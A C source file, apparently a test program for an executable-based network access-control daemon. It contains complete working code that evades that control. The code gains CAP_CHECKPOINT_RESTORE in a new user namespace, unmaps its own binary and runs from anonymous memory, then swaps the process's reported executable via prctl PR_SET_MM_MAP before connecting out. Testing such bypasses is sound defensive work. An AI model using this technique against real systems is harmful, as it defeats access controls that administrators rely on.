// SPDX-License-Identifier: GPL-2.0
/*
 * esc-exeswap: a program that makes the kernel believe it runs another
 * executable, then connects.  Any user who may create a user namespace
 * can: there it has CAP_CHECKPOINT_RESTORE, which is all that
 * prctl(PR_SET_MM, PR_SET_MM_MAP) with an exe_fd asks for (kernel/sys.c),
 * once the process has unmapped its own executable (so it runs on from
 * an anonymous copy of one function).  sactl reports mm->exe_file, so the
 * connect is asked for TARGET, and sactld hashes TARGET's file.
 *
 *   esc-exeswap TARGET IPV4 PORT [PROGRAM]
 *
 * prints "pid P prctl R exe PATH connect E fork F E2 exec X": the child's
 * pid, prctl's result (-errno), what /proc/self/exe said afterwards,
 * connect's result; then the pid of a fork() of it and its connect's
 * result; then the pid of another fork() that execs PROGRAM (if given)
 * with "connect IPV4 PORT", its output thrown away.
 * x86-64 only (raw system calls).  Needs CONFIG_CHECKPOINT_RESTORE.
 */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <linux/prctl.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#define MAX_RANGES	16
#define STAGE_BYTES	2048

struct stage {
	long nr;
	unsigned long lo[MAX_RANGES], hi[MAX_RANGES];
	struct prctl_mm_map map;
	struct sockaddr_in sin;
	char link[16];
	char exe[256];
	long prctl_ret, readlink_ret, connect_ret;
	long fork_pid, fork_connect_ret, exec_pid;
	int out;
	/* For the exec: PROGRAM connect IPV4 PORT, stdout to /dev/null. */
	char null[16], prog[256], arg[3][64];
	char *argv[5];
};

#if defined(__x86_64__)
static inline __attribute__((always_inline)) long
sc(long n, long a, long b, long c, long d, long e)
{
	register long r10 asm("r10") = d, r8 asm("r8") = e;
	long ret;

	asm volatile("syscall" : "=a"(ret)
		     : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
		     : "rcx", "r11", "memory");
	return ret;
}

/*
 * Copied to an anonymous page and run from there: no libc, no globals,
 * nothing but @s.  Never returns: the code it came from is gone.
 */
static __attribute__((noinline, noreturn, no_stack_protector)) void
stage2(struct stage *s)
{
	long fd;
	int status = 0;

	for (long i = 0; i < s->nr; i++)
		sc(SYS_munmap, s->lo[i], s->hi[i] - s->lo[i], 0, 0, 0);
	s->prctl_ret = sc(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, (long)&s->map,
			  sizeof(s->map), 0);
	s->readlink_ret = sc(SYS_readlink, (long)s->link, (long)s->exe,
			     sizeof(s->exe) - 1, 0, 0);
	fd = sc(SYS_socket, AF_INET, SOCK_STREAM, 0, 0, 0);
	s->connect_ret = fd < 0 ? fd : sc(SYS_connect, fd, (long)&s->sin,
					  sizeof(s->sin), 0, 0);
	/* A fork() child runs the swapped file too; its exit status is its
	 * connect's errno. */
	s->fork_pid = sc(SYS_fork, 0, 0, 0, 0, 0);
	if (!s->fork_pid) {
		fd = sc(SYS_socket, AF_INET, SOCK_STREAM, 0, 0, 0);
		fd = fd < 0 ? fd : sc(SYS_connect, fd, (long)&s->sin,
				      sizeof(s->sin), 0, 0);
		for (;;)
			sc(SYS_exit_group, -fd, 0, 0, 0, 0);
	}
	if (s->fork_pid > 0) {
		sc(SYS_wait4, s->fork_pid, (long)&status, 0, 0, 0);
		s->fork_connect_ret = -((status >> 8) & 0xff);
	}
	/* One that execs a program: that one is what it runs. */
	if (s->prog[0]) {
		s->exec_pid = sc(SYS_fork, 0, 0, 0, 0, 0);
		if (!s->exec_pid) {
			fd = sc(SYS_open, (long)s->null, O_WRONLY, 0, 0, 0);
			sc(SYS_dup2, fd, 1, 0, 0, 0);
			sc(SYS_execve, (long)s->prog, (long)s->argv, 0, 0, 0);
			for (;;)
				sc(SYS_exit_group, 127, 0, 0, 0, 0);
		}
		if (s->exec_pid > 0)
			sc(SYS_wait4, s->exec_pid, (long)&status, 0, 0, 0);
	}
	sc(SYS_write, s->out, (long)s, sizeof(*s), 0, 0);
	for (;;)
		sc(SYS_exit_group, 0, 0, 0, 0, 0);
}
#endif

/* The prctl_mm_map of now, from /proc/self/stat (fields 26-28, 45-51). */
static int fill_map(struct prctl_mm_map *m)
{
	unsigned long long v[52] = { 0 };
	char buf[4096], *p, *save = NULL;
	FILE *f = fopen("/proc/self/stat", "re");
	size_t n;

	if (!f)
		return -1;
	n = fread(buf, 1, sizeof(buf) - 1, f);
	fclose(f);
	buf[n] = '\0';
	p = strrchr(buf, ')');
	if (!p)
		return -1;
	/* Field 3 on; "state" is a letter and reads as 0. */
	for (int i = 3; (p = strtok_r(i == 3 ? p + 2 : NULL, " ", &save)) &&
			i <= 51; i++)
		v[i] = strtoull(p, NULL, 10);
	memset(m, 0, sizeof(*m));
	m->start_code = v[26];
	m->end_code = v[27];
	m->start_stack = v[28];
	m->start_data = v[45];
	m->end_data = v[46];
	m->start_brk = v[47];
	m->brk = (unsigned long)sbrk(0);
	m->arg_start = v[48];
	m->arg_end = v[49];
	m->env_start = v[50];
	m->env_end = v[51];
	return m->start_code && m->end_code ? 0 : -1;
}

/* Every mapping of our own executable, to be unmapped. */
static int own_ranges(struct stage *s)
{
	char exe[256], line[512], path[256];
	unsigned long lo, hi;
	ssize_t n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
	FILE *f = fopen("/proc/self/maps", "re");

	if (n <= 0 || !f)
		return -1;
	exe[n] = '\0';
	while (fgets(line, sizeof(line), f) && s->nr < MAX_RANGES) {
		path[0] = '\0';
		if (sscanf(line, "%lx-%lx %*s %*s %*s %*s %255s", &lo, &hi, path) >= 2 &&
		    !strcmp(path, exe)) {
			s->lo[s->nr] = lo;
			s->hi[s->nr] = hi;
			s->nr++;
		}
	}
	fclose(f);
	return s->nr ? 0 : -1;
}

static void child(const char *target, const char *ip, int port,
		  const char *prog, int out)
{
#if defined(__x86_64__)
	struct stage *s = mmap(NULL, sizeof(*s), PROT_READ | PROT_WRITE,
			       MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	void *code = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
			  MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	int tfd = open(target, O_RDONLY | O_CLOEXEC);

	if (s == MAP_FAILED || code == MAP_FAILED || tfd < 0)
		_exit(2);
	memset(s, 0, sizeof(*s));
	s->out = out;
	s->prctl_ret = -EINVAL;
	strcpy(s->link, "/proc/self/exe");
	s->sin.sin_family = AF_INET;
	s->sin.sin_port = htons(port);
	inet_pton(AF_INET, ip, &s->sin.sin_addr);
	if (prog) {
		strcpy(s->null, "/dev/null");
		snprintf(s->prog, sizeof(s->prog), "%s", prog);
		strcpy(s->arg[0], "connect");
		snprintf(s->arg[1], sizeof(s->arg[1]), "%s", ip);
		snprintf(s->arg[2], sizeof(s->arg[2]), "%d", port);
		s->argv[0] = s->prog;
		for (int i = 0; i < 3; i++)
			s->argv[i + 1] = s->arg[i];
	}
	/* A user namespace of our own: CAP_CHECKPOINT_RESTORE in it. */
	if (unshare(CLONE_NEWUSER)) {
		s->prctl_ret = -errno;
		(void)!write(out, s, sizeof(*s));
		_exit(0);
	}
	if (fill_map(&s->map) || own_ranges(s))
		_exit(3);
	s->map.exe_fd = tfd;
	memcpy(code, (void *)stage2, STAGE_BYTES);
	((void (*)(struct stage *))code)(s);
#else
	(void)target; (void)ip; (void)port; (void)prog; (void)out;
#endif
	_exit(4);
}

int main(int argc, char **argv)
{
	struct stage s;
	int pfd[2], status;
	pid_t pid;

	if (argc < 4 || argc > 5 || pipe(pfd))
		return 2;
	fflush(stdout);
	pid = fork();
	if (pid == 0) {
		close(pfd[0]);
		child(argv[1], argv[2], atoi(argv[3]), argc == 5 ? argv[4] : NULL,
		      pfd[1]);
	}
	close(pfd[1]);
	memset(&s, 0, sizeof(s));
	if (read(pfd[0], &s, sizeof(s)) != sizeof(s)) {
		waitpid(pid, &status, 0);
		printf("pid %d failed (status %d)\n", (int)pid, status);
		return 1;
	}
	waitpid(pid, &status, 0);
	if (s.readlink_ret > 0 && s.readlink_ret < (long)sizeof(s.exe))
		s.exe[s.readlink_ret] = '\0';
	else
		strcpy(s.exe, "?");
	printf("pid %d prctl %ld exe %s connect %ld fork %ld %ld exec %ld\n",
	       (int)pid, s.prctl_ret, s.exe, s.connect_ret, s.fork_pid,
	       s.fork_connect_ret, s.exec_pid);
	return 0;
}
